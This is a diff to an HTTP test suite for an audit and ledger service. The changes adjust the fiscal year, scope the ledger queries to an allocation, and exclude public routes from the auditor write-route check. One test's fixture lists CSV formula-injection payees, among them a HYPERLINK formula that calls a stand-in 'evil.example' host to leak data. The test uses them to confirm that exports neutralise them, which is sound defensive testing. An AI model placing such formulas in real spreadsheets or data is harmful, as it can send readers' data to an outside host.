@@ -66,7 +66,8 @@ describe('the audit routes over HTTP', () => {
   });
 
   it('writes formula payloads as inert text and hashes a spreadsheet keeps, so a copy re-verifies', async () => {
-    const year = 2025;
+    // This year's plan (payments are made within its period); the test reads its own allocation's entries.
+    const year = 2024;
     const payees = [
       '=HYPERLINK("http://evil.example/?leak","Xem")',
       '+1+1',
@@ -85,8 +86,10 @@ describe('the audit routes over HTTP', () => {
       await s.approveAll(submitted.body.id);
     }
     const token = await s.as('auditor-an', 'auditor');
-    const json = await rt.call('GET', `/ledger/entries?fiscalYear=${year}&limit=500`, { token });
-    const res = await fetch(`${rt.url}/ledger/entries?fiscalYear=${year}&format=csv`, {
+    const json = await rt.call('GET', `/ledger/entries?fiscalYear=${year}&allocationId=${id}&limit=500`, {
+      token,
+    });
+    const res = await fetch(`${rt.url}/ledger/entries?fiscalYear=${year}&allocationId=${id}&format=csv`, {
       headers: { authorization: `Bearer ${token}` },
     });
     const csv = await res.text();
@@ -190,7 +193,8 @@ describe('the audit routes over HTTP', () => {
 
   it('answers 403 to an auditor on every write route', async () => {
     const token = await s.as('auditor-an', 'auditor');
-    const writes = ROUTES.filter((r) => r.method !== 'GET');
+    // Every write route a token reaches (public ones, such as an e-mailed link's, take no token).
+    const writes = ROUTES.filter((r) => r.method !== 'GET' && r.roles !== 'public');
     expect(writes.length).toBeGreaterThanOrEqual(5);
     for (const route of writes) {
       const res = await rt.call(route.method, route.path.replace('{id}', allocationId), {
